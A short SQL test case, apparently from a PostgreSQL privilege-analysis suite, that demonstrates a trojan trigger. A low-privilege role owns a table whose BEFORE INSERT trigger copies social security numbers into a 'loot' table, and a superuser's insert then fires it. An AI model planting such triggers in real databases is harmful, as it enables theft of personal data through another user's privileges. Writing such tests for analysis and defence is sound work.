-- C15: ice owns a table whose trigger writes elsewhere; a superuser, who needs no grant, writes into the table.
CREATE TABLE pub.inbox (line text);
CREATE TABLE pub.loot (line text);
CREATE FUNCTION pub.take() RETURNS trigger LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO pub.loot SELECT ssn FROM cpd.person; RETURN NEW; END $$;
CREATE TRIGGER takes BEFORE INSERT ON pub.inbox FOR EACH ROW EXECUTE FUNCTION pub.take();
ALTER TABLE pub.inbox OWNER TO ice;
ALTER TABLE pub.loot OWNER TO ice;
ALTER FUNCTION pub.take() OWNER TO ice;
INSERT INTO pub.inbox VALUES ('welcome');
